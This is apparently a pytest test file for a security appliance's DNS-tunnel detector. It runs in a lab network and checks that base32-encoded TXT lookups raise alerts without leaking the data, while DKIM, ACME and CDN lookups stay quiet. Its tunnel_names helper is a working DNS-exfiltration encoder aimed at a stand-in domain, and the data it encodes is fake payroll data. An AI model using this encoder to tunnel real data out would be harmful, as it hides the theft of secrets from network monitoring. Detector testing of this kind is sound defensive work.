"""dns-tunnel in the lab: dig sends exfiltration-like TXT lookups (data base32-encoded in the
names) through the appliance; DKIM/ACME/CDN-like lookups raise nothing; the tunnelled data never
appears in an alert; `watchpost replay` of the uplink capture agrees."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator

import pytest

from appliance.detect.detectors import dns_tunnel
from lab.netns import Lab

from .behaviour_lab import Watch, totals
from .content_lab import RESOLVER, capture, dig_batch, from_host, sids, start_watch

pytestmark = pytest.mark.root

PC1, PC2 = "198.18.0.11", "198.18.0.12"
SECRET = b"payroll.xlsx: alice 52000; bob 48000; carol 61000; account 12345678; "


def tunnel_names(data: bytes, domain: str = "t.exfil-lab.net") -> list[str]:
    """DNSExfiltrator-style: a sequence number and 40 bytes of base32 per lookup."""
    out = []
    for i, off in enumerate(range(0, len(data), 40)):
        text = base64.b32encode(data[off : off + 40]).decode().rstrip("=").lower()
        out.append(f"{i}.{text[:60]}.{text[60:]}.{domain}")
    return out


@pytest.fixture(scope="module")
def watch(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watch]:
    w = start_watch(lab, tmp_path_factory.mktemp("dns-tunnel"))
    yield w
    w.daemon.stop()


def test_exfiltration_through_txt_lookups(watch: Watch) -> None:
    names = tunnel_names(SECRET * 12)
    assert len(names) >= 20
    mark = watch.mark()
    with capture(watch, "tunnel") as pcap:
        dig_batch(watch, "pc1", names, qtype="TXT", name="tunnel")
    want = {dns_tunnel.ENCODED.sid, dns_tunnel.TXT_NULL.sid}
    got = watch.wait(mark, lambda a: want <= sids(a), "dns-tunnel")
    mine = from_host(got, PC1)
    assert want <= sids(mine), watch.daemon.log_tail()
    enc = next(a for a in mine if a["alert"]["signature_id"] == dns_tunnel.ENCODED.sid)
    assert enc["dest_ip"] == RESOLVER and enc["dns"]["rrname"] == "exfil-lab.net"
    assert enc["alert"]["severity"] == 1
    text = json.dumps(got)
    for name in names:
        assert name.split(".")[1] not in text  # the encoded data is never reported
    assert "payroll" not in text and "alice" not in text
    got = watch.settle(mark, "dns-tunnel", quiet=3.0)
    assert totals(watch.replay(pcap), "dns-tunnel") == totals(got, "dns-tunnel")


def test_dkim_acme_and_cdn_lookups_raise_nothing(watch: Watch) -> None:
    mark = watch.mark()
    txt = [f"selector{i}._domainkey.example.com" for i in range(25)]
    txt += [f"_acme-challenge.host{i}.example.org" for i in range(25)]
    cdn = [f"d{i:03x}f7a9c2e4b.files.example.com" for i in range(40)]
    dig_batch(watch, "pc2", txt, qtype="TXT", name="dkim")
    dig_batch(watch, "pc2", cdn, name="cdn")
    got = watch.settle(mark, "dns-tunnel", quiet=3.0, timeout=10.0)
    assert from_host(got, PC2) == []
